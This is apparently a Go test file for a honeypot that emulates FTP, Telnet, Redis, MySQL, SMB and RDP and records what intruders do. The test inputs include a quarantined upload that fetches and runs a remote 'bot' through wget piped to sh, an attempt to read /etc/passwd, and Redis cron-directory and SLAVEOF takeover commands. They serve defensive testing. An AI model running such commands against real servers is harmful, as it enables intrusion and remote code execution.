package tcppot

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vallum/vallum/internal/sensor"
	"github.com/vallum/vallum/internal/sensor/sensortest"
)

// pots serves every protocol on its own loopback port.
type pots struct {
	s     *Server
	ev    *sensortest.Events
	addr  map[string]string
	dir   string
	close func()
}

func startPots(t testing.TB, cfg Config) *pots {
	t.Helper()
	dir := t.TempDir()
	ev := &sensortest.Events{}
	s, err := New(cfg, sensor.Env{Name: "test", Sink: ev, Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	p := &pots{s: s, ev: ev, addr: map[string]string{}, dir: dir}
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	for _, proto := range Protocols {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		p.addr[proto] = ln.Addr().String()
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := s.ServeListener(ctx, proto, ln); err != nil {
				t.Errorf("%s: %v", proto, err)
			}
		}()
	}
	p.close = func() { cancel(); wg.Wait() }
	t.Cleanup(p.close)
	return p
}

func (p *pots) dial(t *testing.T, proto string) (net.Conn, *bufio.Reader) {
	t.Helper()
	c, err := net.Dial("tcp", p.addr[proto])
	if err != nil {
		t.Fatal(err)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	t.Cleanup(func() { c.Close() })
	return c, bufio.NewReader(c)
}

func expectLine(t *testing.T, r *bufio.Reader, prefix string) string {
	t.Helper()
	l, err := r.ReadString('\n')
	if err != nil || !strings.HasPrefix(l, prefix) {
		t.Fatalf("got %q (%v), want a line starting %q", l, err, prefix)
	}
	return l
}

func TestFTP(t *testing.T) {
	cfg := Config{}
	cfg.FTP.Anonymous = true
	p := startPots(t, cfg)
	c, r := p.dial(t, FTP)
	expectLine(t, r, "220 (vsFTPd 3.0.3)\r\n")
	for _, step := range []struct{ send, want string }{
		{"SYST", "215 UNIX Type: L8"},
		{"PWD", "530 Please login"},
		{"USER root", "331 "},
		{"PASS toor", "530 Login incorrect."},
		{"USER anonymous", "331 "},
		{"PASS me@example.com", "230 Login successful."},
		{"PWD", `257 "/"`},
		{"PORT 10,0,0,1,4,1", "500 Illegal PORT command."},
		{"EPRT |1|10.0.0.1|1025|", "500 Illegal PORT command."},
		{"RETR /etc/passwd", "550 "},
		{"TYPE I", "200 "},
	} {
		fmt.Fprintf(c, "%s\r\n", step.send)
		expectLine(t, r, step.want)
	}
	// A passive upload lands in the quarantine.
	fmt.Fprintf(c, "PASV\r\n")
	l := expectLine(t, r, "227 Entering Passive Mode (127,0,0,1,")
	var h1, h2, h3, h4, p1, p2 int
	fmt.Sscanf(l[strings.IndexByte(l, '(')+1:], "%d,%d,%d,%d,%d,%d", &h1, &h2, &h3, &h4, &p1, &p2)
	dc, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", p1<<8|p2))
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "STOR x.sh\r\n")
	expectLine(t, r, "150 ")
	payload := "#!/bin/sh\nwget http://198.51.100.1/bot -O- | sh\n"
	io.WriteString(dc, payload)
	dc.Close()
	expectLine(t, r, "226 Transfer complete.")
	fmt.Fprintf(c, "QUIT\r\n")
	expectLine(t, r, "221 ")

	up := p.ev.Of(t, sensor.KindUpload, 1)
	if len(up) != 1 || len(up[0].Payloads) != 1 || up[0].Payloads[0].Size != int64(len(payload)) || up[0].Payloads[0].Name != "x.sh" {
		t.Fatalf("upload events %+v", up)
	}
	kept, err := os.ReadFile(filepath.Join(p.dir, "quarantine", up[0].Payloads[0].SHA256))
	if err != nil || string(kept) != payload {
		t.Errorf("quarantined upload %q, %v", kept, err)
	}
	auth := p.ev.Of(t, sensor.KindAuth, 2)
	if len(auth) != 2 || auth[0].Credentials.Username != "root" || auth[0].Credentials.Password != "toor" || auth[0].Credentials.Accepted ||
		auth[1].Credentials.Username != "anonymous" || !auth[1].Credentials.Accepted || auth[0].Sensor != "test/ftp" || auth[0].Protocol != "ftp" {
		t.Errorf("auth events %+v", auth)
	}
	for _, ev := range p.ev.Of(t, sensor.KindCommand, 1) {
		if strings.Contains(ev.Command, "toor") {
			t.Errorf("a password went into a command event: %q", ev.Command)
		}
	}
}

func TestFTPLimits(t *testing.T) {
	p := startPots(t, Config{})
	c, r := p.dial(t, FTP)
	expectLine(t, r, "220 ")
	// Three failed logins end the connection.
	for i := range 3 {
		fmt.Fprintf(c, "USER u%d\r\nPASS p\r\n", i)
		expectLine(t, r, "331 ")
		expectLine(t, r, "530 Login incorrect.")
	}
	if _, err := r.ReadByte(); err != io.EOF {
		t.Errorf("after three failures: %v, want EOF", err)
	}
	// A line over the bound ends the connection.
	c, r = p.dial(t, FTP)
	expectLine(t, r, "220 ")
	c.Write([]byte("USER " + strings.Repeat("A", 5000) + "\r\n"))
	expectLine(t, r, "500 Input line was too long.")
}

func TestTelnet(t *testing.T) {
	p := startPots(t, Config{Hostname: "nas01"})
	c, r := p.dial(t, Telnet)
	open := make([]byte, len(telnetOpening))
	if _, err := io.ReadFull(r, open); err != nil || !bytes.Equal(open, telnetOpening) {
		t.Fatalf("opening %x, want %x", open, telnetOpening)
	}
	// WONT to every DO, with a subnegotiation thrown in.
	c.Write([]byte{tIAC, tWONT, 24, tIAC, tWONT, 32, tIAC, tSB, 24, 0, 'x', tIAC, tSE})
	readUntil(t, r, "nas01 login: ")
	c.Write([]byte("ad\x7fdmin\r\x00"))
	readUntil(t, r, "Password: ")
	c.Write([]byte("s3cr\xff\xffet\r\n"))
	readUntil(t, r, "Login incorrect")
	auth := p.ev.Of(t, sensor.KindAuth, 1)
	if len(auth) != 1 || auth[0].Credentials.Username != "admin" || auth[0].Credentials.Password != "s3cr\xffet" {
		t.Errorf("auth events %+v", auth)
	}
}

func readUntil(t *testing.T, r *bufio.Reader, s string) {
	t.Helper()
	var got []byte
	for !bytes.HasSuffix(got, []byte(s)) {
		b, err := r.ReadByte()
		if err != nil {
			t.Fatalf("waiting for %q: got %q, %v", s, got, err)
		}
		got = append(got, b)
	}
}

func TestRedis(t *testing.T) {
	p := startPots(t, Config{})
	c, r := p.dial(t, Redis)
	for _, step := range []struct{ send, want string }{
		{"*1\r\n$4\r\nPING\r\n", "+PONG\r\n"},
		{"*2\r\n$4\r\nAUTH\r\n$6\r\nfoobar\r\n", "-ERR AUTH <password> called without any password configured"},
		{"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$5\r\nhello\r\n", "+OK\r\n"},
		{"GET k\r\n", "$5\r\n"},
		{"", "hello\r\n"},
		{"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n", "+OK\r\n"},
		{"SLAVEOF 198.51.100.7 6379\r\n", "+OK\r\n"},
		{"GET / HTTP/1.0\r\n", "-ERR wrong number of arguments for 'get' command\r\n"},
		{"FLUSHSCRIPTS now\r\n", "-ERR unknown command 'FLUSHSCRIPTS'"},
		{"*1\r\n$4\r\ninfo\r\n", "$"},
		{"", "# Server\r\n"},
		{"", "redis_version:7.0.15\r\n"},
	} {
		if step.send != "" {
			io.WriteString(c, step.send)
		}
		expectLine(t, r, step.want)
	}
	c.Close()
	cmds := p.ev.Of(t, sensor.KindCommand, 9)
	var got []string
	for _, e := range cmds {
		got = append(got, e.Command)
	}
	if !strings.Contains(strings.Join(got, "|"), "CONFIG SET dir /var/spool/cron/|SLAVEOF 198.51.100.7 6379") {
		t.Errorf("commands %q", got)
	}
	if a := p.ev.Of(t, sensor.KindAuth, 1); len(a) != 1 || a[0].Credentials.Password != "foobar" {
		t.Errorf("auth %+v", a)
	}
	// A bad multibulk ends the connection with a protocol error.
	c, r = p.dial(t, Redis)
	io.WriteString(c, "*99999\r\n")
	expectLine(t, r, "-ERR Protocol error: invalid multibulk length")
}

// mysqlHandshake builds a HandshakeResponse41 as a 5.7+ client sends it.
func mysqlHandshake(user, db, plugin string, auth []byte) []byte {
	caps := uint32(myProtocol41 | mySecureConn | myPluginAuth | myConnectWithDB | myLongPassword)
	b := binary.LittleEndian.AppendUint32(nil, caps)
	b = binary.LittleEndian.AppendUint32(b, 1<<24)
	b = append(b, 0x21)
	b = append(b, make([]byte, 23)...)
	b = append(append(b, user...), 0)
	b = append(append(b, byte(len(auth))), auth...)
	b = append(append(b, db...), 0)
	return append(append(b, plugin...), 0)
}

func TestMySQL(t *testing.T) {
	p := startPots(t, Config{})
	c, r := p.dial(t, MySQL)
	seq, greet, err := readMyPacket(r)
	if err != nil || seq != 0 || greet[0] != 10 || !bytes.HasPrefix(greet[1:], []byte("8.0.36-0ubuntu0.22.04.1\x00")) || !bytes.HasSuffix(greet, []byte("caching_sha2_password\x00")) {
		t.Fatalf("greeting %q, %v", greet, err)
	}
	c.Write(myPacket(1, mysqlHandshake("root", "wordpress", "mysql_native_password", bytes.Repeat([]byte{0xab}, 20))))
	seq, errp, err := readMyPacket(r)
	if err != nil || seq != 2 || errp[0] != 0xff || binary.LittleEndian.Uint16(errp[1:]) != 1045 || !strings.Contains(string(errp), "#28000Access denied for user 'root'@'127.0.0.1' (using password: YES)") {
		t.Fatalf("answer %d %q, %v", seq, errp, err)
	}
	a := p.ev.Of(t, sensor.KindAuth, 1)
	if len(a) != 1 || a[0].Credentials.Username != "root" || a[0].Credentials.Method != "mysql" || a[0].Details["auth_plugin"] != "mysql_native_password" ||
		a[0].Details["database"] != "wordpress" || a[0].Details["auth_response"] != strings.Repeat("ab", 20) || len(a[0].Details["salt"]) != 20 {
		t.Errorf("auth %+v", a)
	}
}

// nmapSMBProbe is nmap's SMBProgNeg probe.
const nmapSMBProbe = "\x00\x00\x00\xa4\xff\x53\x4d\x42\x72\x00\x00\x00\x00\x08\x01\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x40\x06\x00\x00\x01\x00\x00\x81\x00\x02PC NETWORK PROGRAM 1.0\x00\x02MICROSOFT NETWORKS 1.03\x00\x02MICROSOFT NETWORKS 3.0\x00\x02LANMAN1.0\x00\x02LM1.2X002\x00\x02Samba\x00\x02NT LANMAN 1.0\x00\x02NT LM 0.12\x00"

// smb2NegotiateRequest is an SMB2 NEGOTIATE offering 2.0.2 to 3.1.1.
func smb2NegotiateRequest() []byte {
	h := make([]byte, 64)
	copy(h, "\xfeSMB")
	binary.LittleEndian.PutUint16(h[4:], 64)
	b := make([]byte, 36)
	binary.LittleEndian.PutUint16(b, 36)
	binary.LittleEndian.PutUint16(b[2:], 5)
	binary.LittleEndian.PutUint16(b[4:], 1)
	copy(b[12:28], "0123456789abcdef")
	for _, d := range []uint16{0x0202, 0x0210, 0x0300, 0x0302, 0x0311} {
		b = binary.LittleEndian.AppendUint16(b, d)
	}
	return netbios(append(h, b...))
}

func TestSMB(t *testing.T) {
	p := startPots(t, Config{Hostname: "FILESRV", Workgroup: "CORP"})
	c, r := p.dial(t, SMB)
	io.WriteString(c, nmapSMBProbe)
	m, err := readNetBIOS(r)
	if err != nil || !bytes.HasPrefix(m, []byte("\xffSMBr\x00\x00\x00\x00\x88\x01\x40")) || m[32] != 17 || binary.LittleEndian.Uint16(m[33:]) != 7 {
		t.Fatalf("SMB1 answer %q, %v", m, err)
	}
	if !bytes.HasSuffix(m, append(utf16z("CORP"), utf16z("FILESRV")...)) {
		t.Errorf("SMB1 answer lacks the workgroup and server name: %q", m)
	}
	c, r = p.dial(t, SMB)
	c.Write(smb2NegotiateRequest())
	m, err = readNetBIOS(r)
	if err != nil || !bytes.HasPrefix(m, []byte("\xfeSMB")) || binary.LittleEndian.Uint16(m[64:]) != 65 || binary.LittleEndian.Uint16(m[68:]) != 0x0302 || !bytes.HasSuffix(m, spnegoInit) {
		t.Fatalf("SMB2 answer %x, %v", m, err)
	}
	ev := p.ev.Of(t, sensor.KindRequest, 2)
	if len(ev) != 2 || !strings.HasSuffix(ev[0].Details["dialects"], "NT LM 0.12") || ev[1].Details["dialects"] != "0x0202,0x0210,0x0300,0x0302,0x0311" || ev[1].Details["client_guid"] != fmt.Sprintf("%x", "0123456789abcdef") {
		t.Errorf("events %+v", ev)
	}
}

func TestRDP(t *testing.T) {
	p := startPots(t, Config{})
	c, r := p.dial(t, RDP)
	io.WriteString(c, "\x03\x00\x00\x33\x2e\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administrator\r\n\x01\x00\x08\x00\x03\x00\x00\x00")
	cc := make([]byte, 19)
	if _, err := io.ReadFull(r, cc); err != nil || !bytes.Equal(cc, []byte("\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x02\x00\x00\x00")) {
		t.Fatalf("connection confirm %x, %v", cc, err)
	}
	c, r = p.dial(t, RDP)
	io.WriteString(c, "\x03\x00\x00\x0b\x06\xe0\x00\x00\x00\x00\x00")
	cc = make([]byte, 11)
	if _, err := io.ReadFull(r, cc); err != nil || !bytes.Equal(cc, []byte("\x03\x00\x00\x0b\x06\xd0\x00\x00\x12\x34\x00")) {
		t.Fatalf("legacy connection confirm %x, %v", cc, err)
	}
	ev := p.ev.Of(t, sensor.KindRequest, 2)
	if len(ev) != 2 || ev[0].Details["user"] != "administrator" || ev[0].Details["requested_protocols"] != "hybrid,ssl" || ev[1].Details["requested_protocols"] != "rdp" {
		t.Errorf("events %+v", ev)
	}
}

// TestConnectionCaps checks the per-source cap across services.
func TestConnectionCaps(t *testing.T) {
	p := startPots(t, Config{Limits: sensor.Limits{MaxConnsPerSource: 3}})
	var cs []net.Conn
	for range 3 {
		c, r := p.dial(t, FTP)
		expectLine(t, r, "220 ")
		cs = append(cs, c)
	}
	c, r := p.dial(t, Redis)
	io.WriteString(c, "PING\r\n")
	if _, err := r.ReadString('\n'); err == nil {
		t.Error("a fourth connection from one address was served")
	}
	cs[0].Close()
	deadline := time.Now().Add(5 * time.Second)
	for p.s.gate.Held() > 2 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	c, r = p.dial(t, Redis)
	io.WriteString(c, "PING\r\n")
	expectLine(t, r, "+PONG")
}

func TestConfigErrors(t *testing.T) {
	for _, tt := range []struct {
		cfg  Config
		want string
	}{
		{Config{Hostname: "a-very-long-host-name"}, "at most 15"},
		{Config{Redis: Service{Version: "7 0"}}, "redis version"},
		{Config{Limits: sensor.Limits{IdleTimeout: -1}}, "must not be negative"},
	} {
		if _, err := New(tt.cfg, sensor.Env{Sink: &sensortest.Events{}}); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("New(%+v): %v, want %q", tt.cfg, err, tt.want)
		}
	}
	p := startPots(t, Config{})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	if err := p.s.ServeListener(context.Background(), "gopher", ln); err == nil || !strings.Contains(err.Error(), `unknown protocol "gopher"`) {
		t.Errorf("ServeListener(gopher): %v", err)
	}
	c := Config{}.WithDefaults()
	if c.FTP.Listen[0] != "127.0.0.1:2121" || c.MySQL.Version != "8.0.36-0ubuntu0.22.04.1" || c.Hostname != DefaultHostname {
		t.Errorf("defaults %+v", c)
	}
}

// smb2Request frames an SMB2 request of cmd with body.
func smb2Request(cmd uint16, msgID uint64, body []byte) []byte {
	h := make([]byte, 64)
	copy(h, "\xfeSMB")
	binary.LittleEndian.PutUint16(h[4:], 64)
	binary.LittleEndian.PutUint16(h[12:], cmd)
	binary.LittleEndian.PutUint64(h[24:], msgID)
	return netbios(append(h, body...))
}

// sessionSetup is an SMB2 SESSION_SETUP request carrying blob.
func sessionSetup(msgID uint64, blob []byte) []byte {
	b := make([]byte, 24)
	binary.LittleEndian.PutUint16(b, 25)
	binary.LittleEndian.PutUint16(b[12:], 64+24)
	binary.LittleEndian.PutUint16(b[14:], uint16(len(blob)))
	return smb2Request(smb2SessionSetup, msgID, append(b, blob...))
}

// ntlmAuthenticate builds an AUTHENTICATE message (Unicode).
func ntlmAuthenticate(domain, user, ws string, nt []byte) []byte {
	fields := [][]byte{make([]byte, 24), nt, utf16le(domain), utf16le(user), utf16le(ws), nil}
	m := append([]byte(nil), ntlmSignature...)
	m = binary.LittleEndian.AppendUint32(m, 3)
	off := 64
	var payload []byte
	for _, f := range fields {
		m = binary.LittleEndian.AppendUint16(m, uint16(len(f)))
		m = binary.LittleEndian.AppendUint16(m, uint16(len(f)))
		m = binary.LittleEndian.AppendUint32(m, uint32(off+len(payload)))
		payload = append(payload, f...)
	}
	m = binary.LittleEndian.AppendUint32(m, ntlmChallengeFlags)
	return append(m, payload...)
}

// TestSMBNTLM logs in over SMB2 with NTLMSSP and checks the user, domain,
// workstation and the NetNTLMv2 response are recorded and the login
// refused.
func TestSMBNTLM(t *testing.T) {
	p := startPots(t, Config{Hostname: "FILESRV", Workgroup: "CORP"})
	c, r := p.dial(t, SMB)
	c.Write(smb2NegotiateRequest())
	if _, err := readNetBIOS(r); err != nil {
		t.Fatal(err)
	}
	neg := append(append([]byte(nil), ntlmSignature...), 1, 0, 0, 0, 0x15, 0x82, 0x08, 0x60)
	neg = append(neg, make([]byte, 16)...)
	c.Write(sessionSetup(1, der(0x60, neg))) // a SPNEGO-looking wrapper
	m, err := readNetBIOS(r)
	if err != nil || binary.LittleEndian.Uint32(m[8:]) != statusMoreProcessing || binary.LittleEndian.Uint16(m[12:]) != smb2SessionSetup || binary.LittleEndian.Uint64(m[24:]) != 1 {
		t.Fatalf("challenge answer %x, %v", m, err)
	}
	ch, typ, ok := ntlmMessage(m[72:])
	if !ok || typ != 2 || !bytes.Contains(ch, utf16le("FILESRV")) || !bytes.Contains(ch, utf16le("CORP")) {
		t.Fatalf("NTLM challenge %x", ch)
	}
	challenge := ch[24:32]
	nt := append(bytes.Repeat([]byte{0x11}, 16), bytes.Repeat([]byte{0x22}, 28)...)
	c.Write(sessionSetup(2, ntlmAuthenticate("CORP", "alice", "WS-17", nt)))
	m, err = readNetBIOS(r)
	if err != nil || binary.LittleEndian.Uint32(m[8:]) != statusLogonFailure {
		t.Fatalf("final answer %x, %v", m, err)
	}
	a := p.ev.Of(t, sensor.KindAuth, 1)
	want := fmt.Sprintf("alice::CORP:%x:%s:%s", challenge, strings.Repeat("11", 16), strings.Repeat("22", 28))
	if len(a) != 1 || a[0].Credentials.Username != `CORP\alice` || a[0].Credentials.Method != "ntlm" || a[0].Details["workstation"] != "WS-17" || a[0].Details["ntlm_response"] != want {
		t.Errorf("auth %+v, want response %s", a, want)
	}
}

func TestTelnetLineStripsC1(t *testing.T) {
	tests := []struct{ in, want string }{
		{"root\r\n", "root"},
		{"ro\u009b2Jot\r\n", "ro2Jot"},
		{"a\x9bb\x85c\r\n", "abc"},
		{"caf\xe9 \u00e9\u00a0\r\n", "caf\xe9 \u00e9\u00a0"},
	}
	for _, tt := range tests {
		got, _, ok := telnetLine(nil, &telnetDecoder{}, []byte(tt.in))
		if !ok || got != tt.want {
			t.Errorf("telnetLine(%q) = %q, %v, want %q", tt.in, got, ok, tt.want)
		}
	}
}

// TestRedisKeysBounded sets more and longer keys than a connection may
// keep and counts the bytes the per-connection map then holds.
func TestRedisKeysBounded(t *testing.T) {
	s := &Server{}
	keys := map[string]string{}
	for i := range 2 * redisMaxKeys {
		key := fmt.Sprintf("%05d", i) + strings.Repeat("k", respMaxBulk-5)
		if got, _ := s.redisReply("SET", []string{"SET", key, strings.Repeat("v", respMaxBulk)}, keys); got != "+OK\r\n" {
			t.Fatalf("SET answered %q", got)
		}
	}
	held := 0
	for k, v := range keys {
		held += len(k) + len(v)
	}
	if want := redisMaxKeys * (redisMaxKey + redisMaxValue); held > want {
		t.Errorf("connection holds %d bytes of keys and values, want at most %d", held, want)
	}
	// A key is found again under its full name.
	first := "00000" + strings.Repeat("k", respMaxBulk-5)
	if got, _ := s.redisReply("GET", []string{"GET", first}, keys); got != bulk(strings.Repeat("v", redisMaxValue)) {
		t.Errorf("GET of a long key answered %.40q…", got)
	}
}

// TestDeclaredLengthNotAllocated sends only a length header declaring the
// largest message each reader takes and counts the bytes allocated: they
// must follow what arrived, not what was declared.
func TestDeclaredLengthNotAllocated(t *testing.T) {
	tests := []struct {
		name     string
		header   []byte
		declared int
		read     func(io.Reader) error
	}{
		{"smb", []byte{0, smbMaxMessage >> 16 & 0xff, smbMaxMessage >> 8 & 0xff, smbMaxMessage & 0xff}, smbMaxMessage,
			func(r io.Reader) error { _, err := readNetBIOS(r); return err }},
		{"mysql", []byte{myMaxPacket & 0xff, myMaxPacket >> 8 & 0xff, myMaxPacket >> 16 & 0xff, 1}, myMaxPacket,
			func(r io.Reader) error { _, _, err := readMyPacket(r); return err }},
		{"redis", []byte("*1\r\n$65536\r\n"), respMaxBulk,
			func(r io.Reader) error { _, err := readRESP(bufio.NewReaderSize(r, 16)); return err }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			const runs = 50
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			for range runs {
				if err := tt.read(bytes.NewReader(tt.header)); err == nil {
					t.Fatal("a header alone was read as a whole message")
				}
			}
			runtime.ReadMemStats(&after)
			if got := (after.TotalAlloc - before.TotalAlloc) / runs; got >= uint64(tt.declared)*3/4 {
				t.Errorf("%d bytes allocated per header declaring %d bytes, want under %d", got, tt.declared, tt.declared*3/4)
			}
		})
	}
}

// TestFTPUploadsShareSessionCap sends more through repeated PASV/STOR than
// the session's byte cap and checks what the uploads kept, all together.
func TestFTPUploadsShareSessionCap(t *testing.T) {
	cfg := Config{}
	cfg.FTP.Anonymous = true
	const maxBytes = 64 << 10
	cfg.Limits.MaxSessionBytes = maxBytes
	p := startPots(t, cfg)
	c, r := p.dial(t, FTP)
	expectLine(t, r, "220 ")
	fmt.Fprintf(c, "USER anonymous\r\nPASS x\r\n")
	expectLine(t, r, "331 ")
	expectLine(t, r, "230 ")
	chunk := strings.Repeat("A", 40<<10)
	refused := false
	for i := range 4 {
		fmt.Fprintf(c, "EPSV\r\n")
		l := expectLine(t, r, "229 ")
		var port int
		fmt.Sscanf(l[strings.Index(l, "|||")+3:], "%d", &port)
		dc, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "STOR f%d\r\n", i)
		l = expectLine(t, r, "")
		if strings.HasPrefix(l, "552 ") {
			refused = true
			dc.Close()
			continue
		}
		if !strings.HasPrefix(l, "150 ") {
			t.Fatalf("STOR answered %q", l)
		}
		io.WriteString(dc, chunk)
		dc.Close()
		expectLine(t, r, "226 ")
	}
	fmt.Fprintf(c, "QUIT\r\n")
	expectLine(t, r, "221 ")
	var kept int64
	for _, ev := range p.ev.Of(t, sensor.KindUpload, 1) {
		kept += ev.Payloads[0].Size
	}
	if kept > maxBytes {
		t.Errorf("uploads of one session kept %d bytes, want at most the session cap %d", kept, maxBytes)
	}
	if !refused {
		t.Errorf("no STOR was refused after the session cap was spent")
	}
}

// TestEventCapFlood floods one Redis connection with commands past
// max_events and checks what reaches the sink.
func TestEventCapFlood(t *testing.T) {
	const maxEvents, flood = 20, 500
	p := startPots(t, Config{Limits: sensor.Limits{MaxEvents: maxEvents}})
	c, r := p.dial(t, Redis)
	go io.WriteString(c, strings.Repeat("PING\r\n", flood)+"QUIT\r\n")
	for range flood {
		expectLine(t, r, "+PONG")
	}
	expectLine(t, r, "+OK")
	end := p.ev.Of(t, sensor.KindDisconnect, 1)
	if len(end) != 1 || end[0].Details["suppressed_events"] != strconv.Itoa(flood+1-maxEvents) {
		t.Fatalf("disconnect events %+v, want one with suppressed_events %d", end, flood+1-maxEvents)
	}
	if got := len(p.ev.Of(t, sensor.KindCommand, maxEvents)); got != maxEvents {
		t.Errorf("%d command events emitted, want %d", got, maxEvents)
	}
}
